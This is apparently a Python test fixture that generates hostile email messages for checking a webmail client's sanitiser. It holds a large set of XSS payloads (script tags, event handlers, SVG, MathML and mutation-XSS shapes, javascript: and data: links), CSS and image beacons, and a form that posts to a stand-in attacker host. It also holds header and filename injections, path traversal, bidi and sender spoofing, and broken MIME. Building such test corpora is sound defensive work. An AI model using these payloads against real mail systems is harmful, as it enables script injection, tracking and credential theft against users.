"""A corpus of hostile messages for the webmail: script and event handlers in HTML, SVG
and MathML, CSS ``url()`` and ``@import``, ``javascript:`` and ``data:`` links, meta
refresh, forms, base tags, mutation-XSS shapes, malicious file names, subjects and
display names, encoded-word tricks and broken MIME.

Every payload tries to set the marker (``window.__xss`` here and in the top window,
the document title "XSS") and to reach ``ATTACKER`` (a loopback port the test listens
on) or ``evil.example``. ``corpus(attacker)`` returns (name, raw message) pairs.
"""

from __future__ import annotations

import base64
import quopri
from urllib.parse import quote

# What a payload runs: set the markers, then call home.
JS = "window.__xss=1;try{top.__xss=1}catch(e){};document.title='XSS';new Image().src='ATTACKER/js'"
JS_URL = quote(JS, safe="")

HTML_PAYLOADS: list[tuple[str, str]] = [
    ("script", f"<script>{JS}</script>"),
    ("script-module", f"<script type=module>{JS}</script>"),
    ("script-src", "<script src=\"ATTACKER/evil.js\"></script>"),
    ("img-onerror", f"<img src=x onerror=\"{JS}\">"),
    ("img-onerror-entities", "<img src=x onerror=&#x77;indow.__xss=1>"),
    ("body-onload", f"<body onload=\"{JS}\">hi</body>"),
    ("svg-onload", f"<svg onload=\"{JS}\"></svg>"),
    ("svg-script", f"<svg><script>{JS}</script></svg>"),
    ("svg-xlink", f"<svg><a xlink:href=\"javascript:{JS}\"><text y=20>click</text></a></svg>"),
    ("svg-animate", f"<svg><animate onbegin=\"{JS}\" attributeName=x dur=1s></animate></svg>"),
    ("svg-set", f"<svg><a><set attributeName=href to=\"javascript:{JS}\"/><text y=20>x</text></a></svg>"),
    ("svg-foreignobject", f"<svg><foreignObject><img src=x onerror=\"{JS}\"></foreignObject></svg>"),
    ("svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
                     f"<image href='1' onerror='{JS}'/></svg>#x\"></use></svg>"),
    ("svg-style-import", "<svg><style>@import url(ATTACKER/svgimport);</style></svg>"),
    ("svg-image", "<svg><image href=\"ATTACKER/svgimage\"/></svg>"),
    ("math-href", f"<math href=\"javascript:{JS}\"><mi>x</mi></math>"),
    ("math-maction", f"<math><maction actiontype=statusline xlink:href=\"javascript:{JS}\">m</maction></math>"),
    ("math-mxss", f"<math><mtext><table><mglyph><style><img src=x onerror=\"{JS}\"></style></mglyph></table>"
                  "</mtext></math>"),
    ("math-mxss-2", f"<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror='{JS}' src=1>\">"
                    "</path></textarea></mtext></svg></mglyph></mi></math>"),
    ("noscript-mxss", f"<noscript><p title=\"</noscript><img src=x onerror='{JS}'>\"></p></noscript>"),
    ("comment-mxss", f"<!--<img src=\"--><img src=x onerror='{JS}'//\">"),
    ("xmp", f"<xmp><img src=x onerror='{JS}'></xmp>"),
    ("textarea", f"<textarea><img src=x onerror='{JS}'></textarea>"),
    ("template", f"<template><img src=x onerror='{JS}'></template>"),
    ("style-breakout", f"<style></style><img src=x onerror='{JS}'>"),
    ("title-breakout", f"<title></title><img src=x onerror='{JS}'></title>"),
    ("a-javascript", f"<a id=link href=\"javascript:{JS}\">bấm</a>"),
    ("a-javascript-case", f"<a href=\"JaVaScRiPt:{JS}\">bấm</a>"),
    ("a-javascript-tab", f"<a href=\"jav&#x09;ascript:{JS}\">bấm</a>"),
    ("a-javascript-newline", f"<a href=\"java\nscript:{JS}\">bấm</a>"),
    ("a-javascript-spaces", f"<a href=\"   javascript:{JS}\">bấm</a>"),
    ("a-javascript-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
                              "window.__xss=1\">bấm</a>"),
    ("a-javascript-nul", f"<a href=\"java\x00script:{JS}\">bấm</a>"),
    ("a-vbscript", "<a href=\"vbscript:msgbox(1)\">bấm</a>"),
    ("a-data-html", f"<a href=\"data:text/html,<script>{JS}</script>\">bấm</a>"),
    ("a-data-base64", "<a href=\"data:text/html;base64,"
                      + base64.b64encode(f"<script>{JS}</script>".encode()).decode() + "\">bấm</a>"),
    ("a-onclick", f"<a href=\"https://ok.example/\" onclick=\"{JS}\">bấm</a>"),
    ("a-ping", "<a href=\"https://evil.example/\" ping=\"ATTACKER/ping\">bấm</a>"),
    ("a-relative", "<a href=\"/dang-xuat\">đăng xuất</a>"),
    ("iframe-javascript", f"<iframe src=\"javascript:{JS}\"></iframe>"),
    ("iframe-srcdoc", f"<iframe srcdoc=\"<script>{JS}</script>\"></iframe>"),
    ("iframe-remote", "<iframe src=\"ATTACKER/frame\"></iframe>"),
    ("frameset", f"<frameset onload=\"{JS}\"><frame src=\"ATTACKER/f\"></frameset>"),
    ("object-javascript", f"<object data=\"javascript:{JS}\"></object>"),
    ("object-remote", "<object data=\"ATTACKER/obj\" type=\"text/html\"></object>"),
    ("object-svg-data", "<object type=\"image/svg+xml\" data=\"data:image/svg+xml;base64,"
                        + base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{JS}\"/>".encode()
                                           ).decode() + "\"></object>"),
    ("embed", f"<embed src=\"data:text/html,<script>{JS}</script>\">"),
    ("applet", "<applet code=\"Evil.class\" codebase=\"ATTACKER/\"></applet>"),
    ("meta-refresh-js", f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{JS}\">"),
    ("meta-refresh-remote", "<meta http-equiv=\"refresh\" content=\"0;url=ATTACKER/refresh\">"),
    ("meta-csp-override", "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">"
                          "<img src=\"ATTACKER/aftermeta\">"),
    ("base-href", "<base href=\"ATTACKER/\"><a href=\"x\">x</a><img src=\"y\">"),
    ("form-action", "<form action=\"ATTACKER/steal\" method=post><input name=p value=secret>"
                    "<button>Gửi</button></form>"),
    ("form-autosubmit", f"<form id=f action=\"ATTACKER/auto\"></form><img src=x onerror=\"f.submit();{JS}\">"),
    ("button-formaction", f"<form><button formaction=\"javascript:{JS}\">x</button></form>"),
    ("input-autofocus", f"<input onfocus=\"{JS}\" autofocus>"),
    ("details-ontoggle", f"<details open ontoggle=\"{JS}\"><summary>x</summary></details>"),
    ("marquee", f"<marquee onstart=\"{JS}\">chạy</marquee>"),
    ("div-onmouseover", f"<div onmouseover=\"{JS}\" style=\"position:fixed;top:0;left:0;width:100%;"
                        "height:100%\">phủ</div>"),
    ("tabindex-onfocus", f"<div tabindex=1 onfocus=\"{JS}\" autofocus>x</div>"),
    ("keygen", f"<keygen autofocus onfocus=\"{JS}\">"),
    ("isindex", f"<isindex action=\"javascript:{JS}\" type=image>"),
    ("video-poster", "<video poster=\"ATTACKER/poster\"><source src=\"ATTACKER/video\"></video>"),
    ("video-onerror", f"<video><source onerror=\"{JS}\"></video>"),
    ("audio", "<audio src=\"ATTACKER/audio\" autoplay></audio>"),
    ("img-remote", "<img src=\"ATTACKER/pixel.gif\" width=1 height=1>"),
    ("img-remote-host", "<img src=\"https://evil.example/pixel.gif\">"),
    ("img-protocol-relative", "<img src=\"//evil.example/x.gif\">"),
    ("img-srcset", "<img srcset=\"ATTACKER/srcset.gif 1x\">"),
    ("picture-source", "<picture><source srcset=\"ATTACKER/picture\"><img alt=a></picture>"),
    ("img-data-svg", "<img src=\"data:image/svg+xml;base64,"
                     + base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg'><script>{JS}</script></svg>"
                                        .encode()).decode() + "\">"),
    ("input-image", "<input type=image src=\"ATTACKER/inputimg\">"),
    ("table-background", "<table background=\"ATTACKER/tablebg\"><tr><td background=\"ATTACKER/tdbg\">x</td>"
                         "</tr></table>"),
    ("body-background", "<body background=\"ATTACKER/bodybg\">x</body>"),
    ("link-stylesheet", "<link rel=stylesheet href=\"ATTACKER/style.css\">"),
    ("link-prefetch", "<link rel=prefetch href=\"ATTACKER/prefetch\"><link rel=dns-prefetch href=\"//evil.example\">"),
    ("link-import", "<link rel=import href=\"ATTACKER/import.html\">"),
    ("style-import", "<style>@import 'ATTACKER/import.css';</style>"),
    ("style-url", "<style>body{background:url(ATTACKER/bg)}</style>"),
    ("style-font-face", "<style>@font-face{font-family:x;src:url(ATTACKER/font)}body{font-family:x}</style>"),
    ("inline-background-url", "<div style=\"background:url(ATTACKER/inline)\">x</div>"),
    ("inline-background-image", "<div style=\"background-image:url('ATTACKER/inline2')\">x</div>"),
    ("inline-list-style", "<ul style=\"list-style-image:url(ATTACKER/li)\"><li>x</li></ul>"),
    ("inline-cursor", "<div style=\"cursor:url(ATTACKER/cur),auto\">x</div>"),
    ("inline-content", "<div style=\"content:url(ATTACKER/content)\">x</div>"),
    ("inline-expression", f"<div style=\"width:expression({JS})\">x</div>"),
    ("inline-behavior", "<div style=\"behavior:url(ATTACKER/b.htc)\">x</div>"),
    ("inline-escape", "<div style=\"b\\61ckground:url(ATTACKER/escaped)\">x</div>"),
    ("inline-image-set", "<div style=\"background-color:red;background-image:image-set('ATTACKER/set' 1x)\">x</div>"),
    ("inline-border-image", "<div style=\"border-image:url(ATTACKER/border) 30\">x</div>"),
    ("attribute-breakout", f"\"><script>{JS}</script><p title=\"\">"),
    ("unclosed-tags", f"<p><b><i><a href='https://ok.example/'><img src=x onerror='{JS}'"),
    ("fake-link-title", "<a href=\"https://evil.example/dang-nhap\" title=\"https://ngan-hang.example\">"
                        "https://ngan-hang.example</a>"),
    ("custom-element", f"<x-evil onclick=\"{JS}\" is=\"x\">x</x-evil>"),
    ("plaintext-tag", f"<plaintext><script>{JS}</script>"),
    ("xml-namespace", f"<html xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>{JS}</x:script></html>"),
]


def _html_message(name: str, html: str, *, encoding: str = "8bit", charset: str = "utf-8") -> bytes:
    body = html.encode("utf-8")
    if encoding == "base64":
        body = base64.encodebytes(body)
    elif encoding == "quoted-printable":
        body = quopri.encodestring(body)
    return (f"From: tan-cong@evil.example\r\nTo: an@example.gov.vn\r\nSubject: XSS {name}\r\n"
            f"Date: Sat, 05 Dec 2026 09:00:00 +0700\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: text/html; charset={charset}\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n"
            ).encode() + body + b"\r\n"


def _alternative(name: str, html: str) -> bytes:
    return (f"From: tan-cong@evil.example\r\nTo: an@example.gov.vn\r\nSubject: XSS alt {name}\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b1\r\n\r\n"
            "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nplain\r\n"
            "--b1\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(html.encode()).decode().replace("\n", "\r\n") + "--b1--\r\n").encode()


def _headers(name: str, headers: str, body: str = "thân thư") -> bytes:
    return (f"{headers}\r\nX-Corpus: {name}\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n").encode()


def _with_attachment(name: str, disposition: str, content_type: str = "text/html") -> bytes:
    return (f"From: tan-cong@evil.example\r\nTo: an@example.gov.vn\r\nSubject: XSS file {name}\r\n"
            "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b2\"\r\n\r\n"
            "--b2\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nxem tệp\r\n"
            f"--b2\r\nContent-Type: {content_type}\r\n{disposition}\r\n\r\n"
            f"<script>{JS}</script><img src=x onerror=\"{JS}\">\r\n--b2--\r\n").encode()


def _b64word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="


HEADER_CASES: list[tuple[str, str]] = [
    ("subject-script", f"From: a@evil.example\r\nSubject: <script>{JS}</script>"),
    ("subject-img", f"From: a@evil.example\r\nSubject: <img src=x onerror=\"{JS}\">"),
    ("subject-encoded-word", f"From: a@evil.example\r\nSubject: {_b64word(f'<img src=x onerror={JS}>')}"),
    ("subject-encoded-split", "From: a@evil.example\r\nSubject: =?utf-8?q?=3Cscr?= =?utf-8?q?ipt=3Ewindow.__xss=3D1?="
                              " =?utf-8?q?=3C/script=3E?="),
    ("subject-crlf-word", "From: a@evil.example\r\nSubject: =?utf-8?q?a=0D=0AContent-Type:_text/html=0D=0A=0D=0A"
                          "=3Cscript=3Ewindow.__xss=3D1=3C/script=3E?="),
    ("display-name-html", f"From: \"<img src=x onerror='{JS}'>\" <a@evil.example>\r\nSubject: tên"),
    ("display-name-encoded", f"From: {_b64word('<svg onload=window.__xss=1>')} <a@evil.example>\r\nSubject: tên 2"),
    ("display-name-spoof", "From: \"ngan-hang@gov.vn\" <a@evil.example>\r\nSubject: giả mạo"),
    ("to-html", f"From: a@evil.example\r\nTo: \"<script>{JS}</script>\" <an@example.gov.vn>\r\nSubject: tới"),
    ("cc-javascript", "From: a@evil.example\r\nCc: javascript:window.__xss=1\r\nSubject: cc"),
    ("bidi-subject", "From: a@evil.example\r\nSubject: hoa-don\u202egpj.exe"),
    ("huge-subject", "From: a@evil.example\r\nSubject: " + "<b>" * 5000),
    ("null-in-header", "From: a@evil.example\r\nSubject: a\x00<script>window.__xss=1</script>"),
    ("date-html", "From: a@evil.example\r\nSubject: date\r\nDate: <script>window.__xss=1</script>"),
]

FILENAME_CASES: list[tuple[str, str]] = [
    ("filename-html", f"Content-Disposition: attachment; filename=\"<img src=x onerror='{JS}'>.html\""),
    ("filename-rfc2231", "Content-Disposition: attachment; filename*=UTF-8''%3Csvg%20onload%3Dwindow.__xss%3D1%3E.html"),
    ("filename-encoded-word", f"Content-Disposition: attachment; filename=\"{_b64word('<script>x</script>.htm')}\""),
    ("filename-traversal", "Content-Disposition: attachment; filename=\"../../../etc/passwd\""),
    ("filename-windows-traversal", "Content-Disposition: attachment; filename=\"..\\\\..\\\\boot.ini\""),
    ("filename-crlf", "Content-Disposition: attachment; filename*=UTF-8''a%0D%0AContent-Type%3A%20text%2Fhtml.html"),
    ("filename-quote", "Content-Disposition: attachment; filename=\"a\\\"; onerror=alert(1).html\""),
    ("filename-long", "Content-Disposition: attachment; filename=\"" + "dài" * 400 + ".pdf\""),
    ("filename-bidi", "Content-Disposition: attachment; filename=\"hoa-don\u202efdp.exe\""),
    ("filename-inline-html", "Content-Disposition: inline; filename=\"trang.html\""),
    ("filename-svg", "Content-Disposition: attachment; filename=\"anh.svg\""),
]

BROKEN_MIME: list[tuple[str, bytes]] = [
    ("no-boundary", b"From: a@evil.example\r\nSubject: broken 1\r\nContent-Type: multipart/mixed\r\n\r\n"
                    b"<script>window.__xss=1</script>\r\n"),
    ("unterminated-multipart", b"From: a@evil.example\r\nSubject: broken 2\r\nContent-Type: multipart/mixed; "
                               b"boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=x "
                               b"onerror=window.__xss=1>\r\n"),
    ("html-in-preamble", b"From: a@evil.example\r\nSubject: broken 3\r\nContent-Type: multipart/alternative; "
                         b"boundary=x\r\n\r\n<script>window.__xss=1</script>\r\n--x\r\nContent-Type: text/html\r\n\r\n"
                         b"<b>ok</b>\r\n--x--\r\n<script>window.__xss=1</script>\r\n"),
    ("bad-base64", b"From: a@evil.example\r\nSubject: broken 4\r\nContent-Type: text/html\r\n"
                   b"Content-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=!!!\r\n"),
    ("utf7-charset", b"From: a@evil.example\r\nSubject: broken 5\r\nContent-Type: text/html; charset=utf-7\r\n\r\n"
                     b"+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-\r\n"),
    ("charset-injection", b"From: a@evil.example\r\nSubject: broken 6\r\nContent-Type: text/html; "
                          b"charset=\"><script>window.__xss=1</script>\r\n\r\n<p>x</p>\r\n"),
    ("nested-message-html", b"From: a@evil.example\r\nSubject: broken 7\r\nContent-Type: multipart/mixed; "
                            b"boundary=o\r\n\r\n--o\r\nContent-Type: message/rfc822\r\n\r\nFrom: b@evil.example\r\n"
                            b"Subject: <script>window.__xss=1</script>\r\nContent-Type: text/html\r\n\r\n"
                            b"<script>window.__xss=1</script>\r\n--o--\r\n"),
    ("deep-nesting", b"From: a@evil.example\r\nSubject: broken 8\r\n"
                     + b"".join(b"Content-Type: multipart/mixed; boundary=n%d\r\n\r\n--n%d\r\n" % (i, i)
                                for i in range(60))
                     + b"Content-Type: text/html\r\n\r\n<img src=x onerror=window.__xss=1>\r\n"),
    ("related-cid", b"From: a@evil.example\r\nSubject: broken 9\r\nContent-Type: multipart/related; boundary=r\r\n"
                    b"\r\n--r\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:a@b\"><a href=\"cid:a@b\">x</a>\r\n"
                    b"--r\r\nContent-Type: image/svg+xml\r\nContent-ID: <a@b>\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/"
                    b"svg\" onload=\"window.__xss=1\"/>\r\n--r--\r\n"),
    ("no-header-end", b"From: a@evil.example\r\nSubject: broken 10\r\nContent-Type: text/html\r\n"
                      b"<script>window.__xss=1</script>"),
    ("lf-only", b"From: a@evil.example\nSubject: broken 11\nContent-Type: text/html\n\n"
                b"<script>window.__xss=1</script><img src=x onerror=window.__xss=1>\n"),
    ("binary-garbage", b"From: a@evil.example\r\nSubject: broken 12\r\nContent-Type: text/html\r\n\r\n"
                       + bytes(range(256)) + b"<script>window.__xss=1</script>\r\n"),
    ("qp-split-tag", b"From: a@evil.example\r\nSubject: broken 13\r\nContent-Type: text/html\r\n"
                     b"Content-Transfer-Encoding: quoted-printable\r\n\r\n<scr=\r\nipt>window.__xss=3D1</scr=\r\n"
                     b"ipt><img src=3Dx onerror=3Dwindow.__xss=3D1>\r\n"),
    ("html-as-plain-with-html-ext", b"From: a@evil.example\r\nSubject: broken 14\r\nContent-Type: text/plain; "
                                    b"name=\"x.html\"\r\n\r\n<script>window.__xss=1</script>\r\n"),
]


def corpus(attacker: str) -> list[tuple[str, bytes]]:
    """(name, raw message) of every hostile message, calling home to ``attacker``."""
    messages: list[tuple[str, bytes]] = []
    payloads = [(name, html.replace("ATTACKER", attacker)) for name, html in HTML_PAYLOADS]
    for name, html in payloads:
        messages.append((name, _html_message(name, html)))
    for name, html in payloads[::4]:
        messages.append((f"{name}-alternative", _alternative(name, html)))
    for name, html in payloads[1::9]:
        messages.append((f"{name}-qp", _html_message(name, html, encoding="quoted-printable")))
    for name, headers in HEADER_CASES:
        messages.append((name, _headers(name, headers, body=f"<script>{JS}</script>")))
    for name, disposition in FILENAME_CASES:
        messages.append((name, _with_attachment(name, disposition)))
    messages.extend(BROKEN_MIME)
    return [(name, raw.replace(b"ATTACKER", attacker.encode())) for name, raw in messages]
